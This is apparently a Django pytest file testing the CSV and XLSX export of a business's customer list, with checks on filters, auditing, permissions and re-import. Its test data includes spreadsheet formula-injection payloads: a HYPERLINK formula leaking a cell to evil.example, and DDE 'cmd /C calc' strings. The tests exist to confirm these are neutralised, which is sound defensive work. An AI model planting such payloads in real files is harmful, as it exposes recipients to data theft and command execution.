"""Exporting the customer list to CSV and XLSX: the list's filters, formula neutralisation, the audit
log, tenancy and permissions; and a CSV export imported back changes nothing."""

import csv
import io
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from etalase.customers.enums import AuditAction
from etalase.customers.io.importer import import_run
from etalase.customers.io.imports import import_start, import_upload
from etalase.customers.io.jobs import job_settings
from etalase.customers.models import AuditEntry, Contact
from etalase.customers.services.contacts import contact_create
from etalase.customers.services.tags import contact_tag_add
from etalase.directory.enums import Role
from tests.factories import registered_business

pytestmark = pytest.mark.django_db

INJECTIONS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def read_csv(answer: Any) -> list[dict[str, str]]:
    body = b"".join(answer.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")  # Excel reads UTF-8 with a BOM
    return list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"))))


def read_xlsx(answer: Any) -> list[list[Any]]:
    workbook = load_workbook(io.BytesIO(b"".join(answer.streaming_content)))
    return [list(row) for row in workbook.active.iter_rows(values_only=False)]


@pytest.fixture
def contacts(business) -> dict[str, Contact]:
    made = {
        "rina": contact_create(business=business, name="Rina Wati", phone="0812-1111-0001", city="Sleman"),
        "agus": contact_create(business=business, name="Agus", email="agus@contoh.id", city="Solo"),
    }
    contact_tag_add(contact=made["rina"], name="VIP", actor=None)
    for key, value in INJECTIONS.items():
        made[key] = contact_create(business=business, name="x", email=f"{key}@contoh.id", city="Solo")
        Contact.objects.filter(pk=made[key].pk).update(name=value)  # as stored by any route, spaces kept
    return made


def test_csv_export_lists_the_business_contacts_with_formulas_neutralised(owner_client, business, contacts):
    contact_create(business=registered_business(name="Kopi Senja"), name="Bukan Pelanggan Kami")

    answer = owner_client.get(reverse("customers_io:export_csv", args=[business.slug]))

    assert answer.status_code == 200
    assert answer["Content-Type"].startswith("text/csv")
    assert "attachment" in answer["Content-Disposition"]
    rows = read_csv(answer)
    by_email = {row["email"]: row for row in rows}
    assert len(rows) == len(contacts)
    assert "Bukan Pelanggan Kami" not in {row["name"] for row in rows}
    for key, value in INJECTIONS.items():
        assert by_email[f"{key}@contoh.id"]["name"] == "'" + value
    rina = next(row for row in rows if row["name"] == "Rina Wati")
    assert rina["phone"] == "+6281211110001"  # a phone number is a number, never a formula: left alone
    assert rina["tags"] == "VIP"
    assert rina["id"] == str(contacts["rina"].pk)


def test_xlsx_export_writes_text_cells_never_formulas(owner_client, business, contacts):
    answer = owner_client.get(reverse("customers_io:export_xlsx", args=[business.slug]))

    assert answer.status_code == 200
    assert answer["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    rows = read_xlsx(answer)
    header = [cell.value for cell in rows[0]]
    name_column, email_column = header.index("name"), header.index("email")
    by_email = {row[email_column].value: row for row in rows[1:]}
    for key, value in INJECTIONS.items():
        cell = by_email[f"{key}@contoh.id"][name_column]
        assert cell.value == "'" + value.replace("\r", "\n")  # XML reads a carriage return as a newline
        assert cell.data_type == "s"
    assert all(cell.data_type != "f" for row in rows for cell in row)
    rina = next(row for row in rows[1:] if row[name_column].value == "Rina Wati")
    assert rina[header.index("phone")].value == "+6281211110001"


def test_the_export_keeps_the_list_filters_and_is_audited(owner_client, owner, business, contacts):
    answer = owner_client.get(reverse("customers_io:export_csv", args=[business.slug]), {"tag": "VIP", "page": "3"})

    assert [row["name"] for row in read_csv(answer)] == ["Rina Wati"]
    entry = AuditEntry.objects.get(business=business, action=AuditAction.EXPORTED)
    assert entry.actor == owner
    assert entry.detail == {"format": "csv", "filters": {"tag": "VIP"}, "rows": 1}

    by_city = owner_client.get(reverse("customers_io:export_xlsx", args=[business.slug]), {"city": "Sleman"})
    assert len(read_xlsx(by_city)) == 2  # the header and Rina
    latest = AuditEntry.objects.filter(business=business, action=AuditAction.EXPORTED).latest("pk")
    assert latest.detail == {"format": "xlsx", "filters": {"city": "Sleman"}, "rows": 1}


def test_an_empty_list_exports_a_header_only(owner_client, business):
    rows = read_csv(owner_client.get(reverse("customers_io:export_csv", args=[business.slug]), {"q": "tidak ada"}))
    assert rows == []


def test_the_api_exports_csv_and_xlsx_and_refuses_a_bad_filter(api_client_for, owner, business, contacts):
    api = api_client_for(owner)
    path = f"/api/v1/businesses/{business.slug}/customers/export"

    as_csv = api.get(path, {"q": "rina"})
    as_xlsx = api.get(path, {"format": "xlsx", "city": "Solo"})
    bad = api.get(path, {"orders_min": "banyak"})
    odd = api.get(path, {"format": "pdf"})

    assert as_csv.status_code == 200
    assert [row["name"] for row in read_csv(as_csv)] == ["Rina Wati"]
    assert as_xlsx.status_code == 200
    assert len(read_xlsx(as_xlsx)) == 1 + 1 + len(INJECTIONS)
    assert bad.status_code == 400
    assert "orders_min" in bad.json()["error"]["fields"]
    assert odd.status_code == 422
    assert AuditEntry.objects.filter(business=business, action=AuditAction.EXPORTED).count() == 2


def test_support_staff_and_other_businesses_cannot_export(client_for, api_client_for, business, member_of, contacts):
    support = member_of(business, Role.SUPPORT).user
    stranger = registered_business(name="Kopi Senja").memberships.get().user

    for user, status in ((support, 403), (stranger, 404)):
        for name in ("customers_io:export_csv", "customers_io:export_xlsx"):
            assert client_for(user).get(reverse(name, args=[business.slug])).status_code == status
        api = api_client_for(user).get(f"/api/v1/businesses/{business.slug}/customers/export")
        assert api.status_code == status
    anonymous = client_for(None).get(reverse("customers_io:export_csv", args=[business.slug]))
    assert anonymous.status_code == 302
    assert not AuditEntry.objects.filter(action=AuditAction.EXPORTED).exists()


def test_an_exported_list_imported_back_creates_nothing(owner_client, owner, business, contacts):
    exported = b"".join(owner_client.get(reverse("customers_io:export_csv", args=[business.slug])).streaming_content)
    before = Contact.objects.filter(business=business).count()

    job = import_upload(business=business, actor=owner, upload=SimpleUploadedFile("e.csv", exported))
    fields = job_settings(job).fields
    headers = job_settings(job).headers
    assert {headers[int(k)]: v for k, v in fields.items()} == {
        "name": "name",
        "phone": "phone",
        "email": "email",
        "city": "city",
        "address": "address",
        "birthday": "birthday",
        "tags": "tags",
    }
    import_start(job=job, actor=owner)
    ran = import_run(job_id=job.pk)
    assert ran is not None
    job = ran

    assert job is not None
    assert (job.created_count, job.merged_count, job.rejected_count) == (0, before, 0)
    assert Contact.objects.filter(business=business).count() == before
    names = set(Contact.objects.filter(business=business).values_list("name", flat=True))
    assert INJECTIONS["hyperlink"] in names  # the guard added on export is taken off on import


def test_the_customer_list_links_to_import_and_to_exports_of_what_it_shows(
    owner_client, client_for, business, member_of, contacts
):
    page = owner_client.get(reverse("customers:list", args=[business.slug]), {"city": "Solo", "page": "2"})
    text = page.content.decode()

    assert page.status_code == 200
    assert f'href="{reverse("customers_io:import", args=[business.slug])}"' in text
    assert f'href="{reverse("customers_io:export_csv", args=[business.slug])}?city=Solo"' in text
    assert f'href="{reverse("customers_io:export_xlsx", args=[business.slug])}?city=Solo"' in text
    support = client_for(member_of(business, Role.SUPPORT).user)
    assert "export.csv" not in support.get(reverse("customers:list", args=[business.slug])).content.decode()
